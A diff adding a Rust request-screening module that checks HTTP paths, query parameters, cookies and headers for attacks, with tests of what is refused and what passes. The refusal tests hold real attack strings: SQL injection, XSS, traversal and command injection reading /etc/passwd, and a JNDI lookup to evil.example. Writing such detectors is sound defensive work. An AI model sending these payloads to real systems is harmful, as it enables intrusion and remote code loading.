@@ -1,0 +1,151 @@
+//! Attacks in the path, the query and the header fields.
+
+use percent_encoding::percent_decode_str;
+
+use super::note;
+use crate::access::Header;
+use crate::problem::Refusal;
+use crate::screening::{Kind, Notes, Profile, Screening};
+
+/// Fields that are not free text: proxies and the policy read them by their grammars, and a program behind does so too. In a
+/// credential anything may stand, and a match would be by chance.
+const STRUCTURED: [&str; 24] = [
+    "accept",
+    "accept-encoding",
+    "accept-language",
+    "authorization",
+    "content-digest",
+    "content-length",
+    "content-type",
+    "date",
+    "dpop",
+    "forwarded",
+    "host",
+    "if-match",
+    "if-none-match",
+    "origin",
+    "priority",
+    "signature",
+    "signature-input",
+    "te",
+    "traceparent",
+    "tracestate",
+    "via",
+    "x-envoy-external-address",
+    "x-forwarded-for",
+    "x-request-id",
+];
+
+pub(super) fn screen(
+    screening: &Screening,
+    headers: &[Header<'_>],
+    notes: &mut Notes,
+) -> Result<(), Refusal> {
+    for (name, value) in headers {
+        let Ok(value) = std::str::from_utf8(value) else { continue };
+        match *name {
+            ":path" => target(screening, value, notes)?,
+            // The signs between cookies are those between commands.
+            "cookie" => {
+                value.split("; ").try_for_each(|cookie| field(screening, name, cookie, notes))?
+            }
+            name if name.starts_with(':') || STRUCTURED.contains(&name) => {}
+            name => field(screening, name, value, notes)?,
+        }
+    }
+    Ok(())
+}
+
+fn target(screening: &Screening, target: &str, notes: &mut Notes) -> Result<(), Refusal> {
+    let (path, query) = target.split_once('?').unwrap_or((target, ""));
+    let path = percent_decode_str(path).decode_utf8_lossy();
+    let parameters = form_urlencoded::parse(query.as_bytes());
+    let parts = parameters.flat_map(|(name, value)| [name, value]);
+    for part in [path].into_iter().chain(parts) {
+        let found = screening.screen(Profile::Argument, &part).found;
+        note(&found, || ":path".to_owned(), notes)?;
+    }
+    Ok(())
+}
+
+fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> Result<(), Refusal> {
+    let mut found = screening.screen(Profile::Argument, value).found;
+    // A referrer may well be on one's own machine, and a browser names what it likes in parentheses.
+    found.retain(|found| !matches!(found.detection.kind, Kind::Ssrf | Kind::RemoteFileInclusion));
+    note(&found, || name.to_owned(), notes)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::document::ScreeningSection;
+    use crate::problem::Reason;
+
+    fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
+        let screening = Screening::compile(&ScreeningSection::default(), "screening").unwrap();
+        let headers: Vec<Header<'_>> =
+            fields.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
+        let mut notes = Notes::default();
+        screen(&screening, &headers, &mut notes).map(|()| notes)
+    }
+
+    #[test]
+    fn attacks_are_found_wherever_they_are() {
+        for field in [
+            (":path", "/search?q=1%27%20OR%20%271%27=%271"),
+            (":path", "/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
+            (":path", "/files?name=..%2f..%2f..%2fetc%2fpasswd"),
+            (":path", "/a;cat+/etc/passwd|sh"),
+            ("user-agent", "${jndi:ldap://evil.example/a}"),
+            ("referer", "https://a.example/?q=<script>alert(1)</script>"),
+            ("x-tenant-hint", "1' UNION SELECT password FROM users--"),
+            ("cookie", "theme=dark; id=1' OR '1'='1"),
+        ] {
+            let refusal = screened(&[field]).expect_err(field.1);
+            assert_eq!(refusal.reason, Reason::AttackSuspected, "{field:?}");
+            assert_eq!(refusal.findings[0].at, field.0);
+        }
+    }
+
+    #[test]
+    fn what_browsers_and_clients_send_is_let_through() {
+        for field in [
+            (
+                ":path",
+                "/v1/chat/completions?api-version=2025-01-01&stream=true&filter=name%20eq%20%27a%27",
+            ),
+            (":path", "/v1/search?q=how+do+I+select+rows+from+a+table&page=2&sort=-date"),
+            (":path", "/v1/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
+            (
+                "user-agent",
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+            ),
+            (
+                "user-agent",
+                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
+            ),
+            ("user-agent", "python-requests/2.32.3"),
+            ("user-agent", "OpenAI/Python 1.54.0"),
+            ("user-agent", "curl/8.5.0"),
+            ("user-agent", "Go-http-client/2.0"),
+            ("referer", "http://localhost:3000/chat?thread=abc#top"),
+            ("sec-ch-ua", "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\""),
+            ("sec-ch-ua-platform", "\"Windows\""),
+            ("cache-control", "no-cache, max-age=0"),
+            ("if-modified-since", "Wed, 21 Oct 2026 07:28:00 GMT"),
+            ("x-stainless-os", "MacOS"),
+            ("x-stainless-runtime-version", "CPython/3.12.4"),
+            ("openai-organization", "org-abc123"),
+            ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
+            (
+                "cookie",
+                "session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; _ga=GA1.2.123456789.1700000000",
+            ),
+            ("x-api-key", "pk_a1b2c3.d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9"),
+        ] {
+            let notes =
+                screened(&[field]).unwrap_or_else(|refusal| panic!("{field:?}: {refusal:?}"));
+            assert!(notes.is_empty(), "{field:?}: {notes:?}");
+        }
+    }
+}
